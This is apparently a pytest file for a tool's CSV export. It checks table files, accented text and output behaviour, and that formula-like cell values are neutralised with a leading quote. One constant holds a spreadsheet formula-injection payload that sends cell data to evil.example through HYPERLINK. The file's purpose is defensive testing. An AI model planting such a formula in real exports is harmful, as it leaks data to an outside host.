"""CSV reports: one file per table, BOM for spreadsheets, formulas typed into a plan neutralised."""

from __future__ import annotations

from pathlib import Path

import pytest
from planbuild import add, example
from reportkit import export, plan_file, read_csv

from schemas.enums import UseCaseStatus
from store.reports.csvfiles import neutralise

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_folder_holds_the_four_tables(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    plan = example()
    path, folder = plan_file(plan, tmp_path), tmp_path / "tables"
    code, err = export(capsys, path, "--format", "csv", "--out", folder)
    assert code == 0, err
    assert sorted(p.name for p in folder.iterdir()) == [
        "findings.csv",
        "observations.csv",
        "raci.csv",
        "use_cases.csv",
    ]
    use_cases = read_csv(folder / "use_cases.csv")
    assert [row["use_case"] for row in use_cases] == [uc.name for uc in plan.use_cases]
    raci = read_csv(folder / "raci.csv")
    sponsor = next(r for r in plan.raci_roles if r.sponsor)
    decide = next(a for a in plan.raci_activities if a.expand_decision)
    assert next(r for r in raci if r["activity"] == decide.name)[sponsor.name] == str(
        decide.cells[sponsor.id]
    )
    assert {row["rule"] for row in read_csv(folder / "findings.csv")} >= {"small-groups"}
    assert len(read_csv(folder / "observations.csv")) == len(plan.observations)


def test_a_formula_typed_into_a_use_case_is_text_in_the_spreadsheet(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    plan = add(
        example(), "use_cases", id="uc-20", name=FORMULA, status=UseCaseStatus.PERMITTED, control="@SUM(1+1)"
    )
    path, out = plan_file(plan, tmp_path), tmp_path / "use_cases.csv"
    code, err = export(capsys, path, "--format", "csv", "--table", "use_cases", "--out", out)
    assert code == 0, err
    row = next(r for r in read_csv(out) if r["id"] == "uc-20")
    assert row["use_case"] == "'" + FORMULA and row["required_control"] == "'@SUM(1+1)"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise(f"a{start}1") == f"a{start}1"


def test_numbers_stay_numbers_and_accents_survive(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    assert neutralise(-2.5) == "-2.5" and neutralise(40) == "40"
    plan = add(
        example(), "use_cases", id="uc-20", name="Préparation à Zürich", status=UseCaseStatus.PERMITTED
    )
    path, out = plan_file(plan, tmp_path), tmp_path / "uc.csv"
    assert export(capsys, path, "--format", "csv", "--table", "use_cases", "--out", out)[0] == 0
    assert any(r["use_case"] == "Préparation à Zürich" for r in read_csv(out))


def test_one_table_goes_to_standard_output_and_all_tables_need_a_folder(tmp_path: Path) -> None:
    from clirun import cli

    path = plan_file(example(), tmp_path)
    result = cli("export", path, "--format", "csv", "--table", "raci")
    assert result.returncode == 0 and result.stdout.lstrip("\ufeff").startswith("activity,")
    result = cli("export", path, "--format", "csv")
    assert result.returncode == 2 and "--table" in result.stderr and not result.stdout
